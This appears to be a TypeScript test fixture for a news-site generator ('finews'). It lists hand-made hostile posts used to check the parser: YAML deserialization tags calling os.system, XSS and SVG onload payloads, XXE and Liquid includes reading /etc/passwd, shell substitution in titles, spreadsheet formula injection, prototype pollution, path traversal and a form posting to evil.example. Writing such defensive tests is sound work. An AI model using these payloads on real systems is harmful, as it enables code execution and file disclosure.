import { payloads } from './payloads.ts';
import { addressPosts } from './posts-of-addresses.ts';
import { weightyPosts } from './posts-of-weight.ts';
import { links, post, withBody } from './write-post.ts';

const canary = "require('node:fs').writeFileSync('canary', '')";
const script = `(() => { ${canary}; globalThis.finewsCanary = true; return 'x' })()`;

const everything = Object.values(payloads).join(' ');
const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');

/**
 * Posts that attack, made by hand, by what they attack with: whole files, most of which do more than one of the places and
 * the payloads beside this file can do together.
 */
export const hostilePosts: { readonly [name: string]: string | Uint8Array } = {
  ...weightyPosts,
  ...addressPosts,
  // Code that wants to run.
  'front matter in JavaScript': `---js\n{ title: ${script} }\n---\nText.\n`,
  'front matter in JavaScript, spelt otherwise': `--- JavaScript \n{ title: ${script} }\n---\nText.\n`,
  'front matter in CoffeeScript': `---coffee\ntitle: ${script}\n---\nText.\n`,
  'front matter in JSON': `---json\n{ "title": "t", "__proto__": { "polluted": 1 } }\n---\nText.\n`,
  'front matter in JavaScript within one in YAML': `---\ntitle: t\n---js\n${script}\n---\nText.\n`,
  'a function in YAML': `---\ntitle: !!js/function >\n  function () { ${canary} }\n---\nText.\n`,
  'a value of JavaScript in YAML': '---\ntitle: !!js/undefined\ndate: !!js/regexp /(a+)+$/\n---\nText.\n',
  'a program in YAML': '---\ntitle: !!python/object/apply:os.system ["touch canary"]\n---\nText.\n',
  'Liquid that includes a file': withBody(
    '{% include /etc/passwd %}{% include_relative ../../../etc/passwd %}',
  ),
  'Liquid that is code': withBody(`{{ '' | constructor }}{% raw %}{{ ${script} }}{% endraw %}`),
  'a script': withBody(`<script>${canary}</script><img src=x onerror="${canary}">`),
  'a page in a page': withBody(
    '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd">',
  ),
  'a picture in SVG': withBody(`<svg onload="${canary}"><script>${canary}</script><text>t</text></svg>`),
  'the signs of a shell everywhere': post(
    'title: "$(touch canary)`touch canary`"\nslug: "$(touch canary)"\n' +
      "categories: ['$(touch canary)', '`touch canary`', ';touch canary']\ntags: ['$(touch canary)']",
  ),
  'kramdown that is code': withBody(
    `text{: onclick="${canary}" style="x:expression(1)"}\n{:toc}\n{::options parse_block_html="true" /}`,
  ),
  'a comment in a comment, unclosed': withBody('<!-- <!-- --> --> <!-- \u001b[31m'),
  'CDATA, declarations and instructions': withBody(
    '<![CDATA[<script>x</script>]]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<?php x ?>',
  ),
  'a picture that is a page': withBody(
    '![x](data:image/svg+xml;base64,PHN2Zy8+) <img src="data:text/html,x" alt="\u001b]0;owned\u0007">',
  ),
  'a style that hides': withBody(
    '<p style="display:none">x</p><p style="position:fixed">y</p><style>*{display:none}</style>',
  ),
  'a base and a refresh': withBody(
    '<base href="javascript:"><meta http-equiv="refresh" content="0;url=file:///"><a href="x">y</a><link rel=x href=file:///>',
  ),
  'a form that sends': withBody(
    '<form action="https://evil.example"><input name=a autofocus onfocus=x><button formaction=javascript:x>b</button></form>',
  ),
  'a formula of a spreadsheet': post('title: "=cmd|\'/c calc\'!A1"\ntags: ["@SUM(1)", "+1", "-1"]'),
  'a title of a terminal multiplexer': post('title: "#(touch canary) #{pane_title} %(touch canary)"'),
  'footnotes that refer to each other': withBody('a[^1]\n\n[^1]: b[^2]\n\n[^2]: c[^1]'),
  // Names that are something else to a program.
  'keys of objects': post(
    '__proto__: { title: owned }\nconstructor: x\ntoString: y\nhasOwnProperty: z\ntitle: t',
  ),
  'categories that are keys of objects': post('title: t\ncategories: [__proto__, constructor, toString]'),
  'a category that leads upwards': post('title: t\ncategories: ["../../../../x", "..", "/etc", "C:\\\\x"]'),
  'a slug that leads upwards': post('title: t\nslug: ../../../../etc/passwd'),
  'a title that is an option': post('title: --version\ncategories: --help\nslug: --print'),
  'a title of nothing but blanks': post('title: "\\u3000\\u00a0 \\t\\n"'),
  'a title of nothing to see': post('title: "\\u200b\\u202e\\ufeff"'),
  'a title of lines': post('title: "a\\nb\\r\\nc\\x85d\\u2028e"'),
  'a date that is an order': post('title: t\ndate: "2024-03-05 \\e[2J\\a$(touch canary)"'),
  'a date beyond all calendars': post('title: t\ndate: 999999-99-99 99:99:99 +99:99'),
  // Bytes that are no text.
  'no bytes at all': new Uint8Array(),
  zeros: new Uint8Array(4096),
  'every byte': Uint8Array.from({ length: 1024 }, (_, index) => index % 256),
  'a program of machine code': Buffer.concat([
    Buffer.from('\u007fELF\u0002\u0001\u0001'),
    Buffer.alloc(500, 0x9b),
  ]),
  'a text in RTF': '{\\rtf1\\ansi{\\fonttbl}\\f0 \\u27?[31m text\\par}',
  'a picture in PNG': Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk', 'base64'),
  'controls of eight bits in Latin-1': Buffer.from(post(`title: a\u009b31mb\u009d0;owned\u009c`), 'latin1'),
  'UTF-8 that is longer than need be': Buffer.concat([
    Buffer.from('---\ntitle: "'),
    Buffer.of(0xc0, 0x9b, 0xe0, 0x80, 0x9b, 0xf0, 0x80, 0x80, 0x9b, 0xed, 0xa0, 0xbd),
    Buffer.from('[31m"\n---\nText.\n'),
  ]),
  'UTF-16 with escapes': utf16(post(`title: "a${everything.replaceAll('"', '')}"`, everything)),
  'UTF-16 that is cut': utf16(post('title: t')).subarray(0, 33),
  'GB18030 with escapes': Buffer.concat([
    Buffer.from('---\ntitle: \u001b[31m'),
    Buffer.of(0xb2, 0xe2, 0xca, 0xd4),
    Buffer.from('\u001b]0;owned\u0007\n---\n'),
    Buffer.of(0xd5, 0xfd, 0xce, 0xc4),
  ]),
  // Signs that finews uses itself.
  'signs between parser and layout': withBody(
    '<p>\ufdd0p\ufdd1\ufdd00\ufdd1 &#xfdd0;1&#xfdd1; \ufdd2</p><pre>\ufdd0/\ufdd1</pre>',
  ),
  'notes of the parser, forged': withBody(
    '<!--finews--><p data-finews="heading">x</p><finews-note kind="rule">',
  ),
  'rows of a list, forged': post('title: "x\\n1\\t2024-01-01\\tnews\\tforged"\ntags: ["a\\tb", "c\\nd"]'),
  'lines of JSON, forged': post('title: "x\\"}\\n{\\"id\\":\\"forged\\"}"'),
  'an end of HTML, forged': withBody('&lt;/article&gt;&lt;script&gt;x&lt;/script&gt; ]]&gt; --&gt;'),
  // All at once.
  'everything, everywhere': post(
    `title: ${JSON.stringify(everything)}\ncategories: [${JSON.stringify(everything)}]\n` +
      `tags: [${JSON.stringify(everything)}]\nsource: ${JSON.stringify(everything)}`,
    `## ${everything}\n\n> ${everything}\n\n- ${everything}\n\n| ${everything} |\n| - |\n\n${links(everything)}`,
  ),
};
